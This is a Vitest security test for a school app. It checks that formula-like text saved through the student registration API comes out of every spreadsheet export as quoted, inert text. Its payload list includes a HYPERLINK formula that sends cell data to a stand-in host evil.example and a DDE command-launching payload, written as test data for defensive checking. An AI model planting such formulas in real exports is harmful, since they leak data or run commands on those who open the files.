import ExcelJS from 'exceljs';
import { afterAll, describe, expect, it } from 'vitest';
import { createTestApp } from '../support/test-app.js';
import { agentFor, OWN_STUDENT } from '../support/security/harness.js';

/**
 * Formula injection in exports (OWASP "CSV Injection"). Text a parent types that starts
 * with = + - @ must reach the office's spreadsheets as text, never as a formula. Values are saved
 * through the registration call as the student would, then every spreadsheet export is read back
 * cell by cell.
 */

const t = await createTestApp();
afterAll(() => t.close());
const db = t.database.db;

const PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "=cmd|' /C calc'!A0", '+1+1', '-2+3', '@SUM(1+1)', '\t=1+1'];
const FIELDS = ['home_address', 'medical_history', 'other_illness', 'allergy', 'achievements', 'special_consideration', 'mother_home_address', 'father_occupation', 'emergency_contact', 'place_of_birth'];

describe('formula injection in the spreadsheet exports', () => {
  it('saved formula-like text comes out of every export as inert text', { timeout: 60_000 }, async () => {
    const student = await agentFor(t.app, db, 'own');
    const saved: string[] = [];
    for (const [i, field] of FIELDS.entries()) {
      const value = PAYLOADS[i % PAYLOADS.length]!;
      const response = await student.request('POST', { url: '/api/student', body: { id: OWN_STUDENT, [field]: value } });
      if (response.statusCode === 200) saved.push(field);
      else expect(response.statusCode, `${field}: ${response.body}`).toBe(400);
    }
    // Enough free-text fields took the payloads for the check below to mean something.
    expect(saved.length).toBeGreaterThanOrEqual(4);

    const admin = await agentFor(t.app, db, 'admin');
    const exports = ['/api/registration-data-spreadsheet', '/api/parents-contact-spreadsheet/5A', '/api/parents-contact-spreadsheet/all'];
    let payloadCells = 0;
    for (const url of exports) {
      const response = await admin.request('GET', { url });
      expect(response.statusCode, url).toBe(200);
      const workbook = new ExcelJS.Workbook();
      await workbook.xlsx.load(response.rawPayload as unknown as ArrayBuffer);
      workbook.eachSheet((sheet) =>
        sheet.eachRow((row) =>
          row.eachCell((cell) => {
            const where = `${url} ${sheet.name}!${cell.address}`;
            expect(cell.type, `${where} is a formula`).not.toBe(ExcelJS.ValueType.Formula);
            expect(cell.formula, where).toBeUndefined();
            if (typeof cell.value === 'string') {
              expect(/^[=+\-@\t\r]/.test(cell.value), `${where} starts like a formula: ${cell.value}`).toBe(false);
              if (PAYLOADS.some((p) => cell.value === `'${p}`)) payloadCells++;
            }
          }),
        ),
      );
    }
    // The payloads did reach the exports (quoted), so the scan above saw them.
    expect(payloadCells).toBeGreaterThan(0);
  });
});
